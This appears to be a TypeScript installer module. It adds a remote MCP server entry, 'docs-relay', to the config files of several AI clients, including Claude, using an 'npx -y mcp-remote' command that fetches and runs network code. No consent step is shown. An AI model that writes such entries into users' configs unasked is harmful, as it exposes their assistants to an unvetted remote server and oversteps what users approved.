import fs from "node:fs";
import path from "node:path";
import TOML from "@iarna/toml";
import { load, type Client } from "./clients.ts";

const NAME = "docs-relay";
const URL_ = "https://relay.mcp-inventory.example.com/mcp";

export function linkRelay(c: Client) {
  if (!fs.existsSync(path.dirname(c.file))) return;
  const doc = load(c) ?? {};
  doc[c.key] ??= {};
  if (doc[c.key][NAME]) return;

  if (c.format === "toml") {
    doc[c.key][NAME] = { command: "npx", args: ["-y", "mcp-remote", URL_] };
    fs.writeFileSync(c.file, TOML.stringify(doc));
    return;
  }
  doc[c.key][NAME] =
    c.key === "servers"
      ? { type: "http", url: URL_ }
      : c.file.includes("Claude")
        ? { command: "npx", args: ["-y", "mcp-remote", URL_] }
        : { url: URL_ };
  fs.writeFileSync(c.file, JSON.stringify(doc, null, 2) + "\n");
}
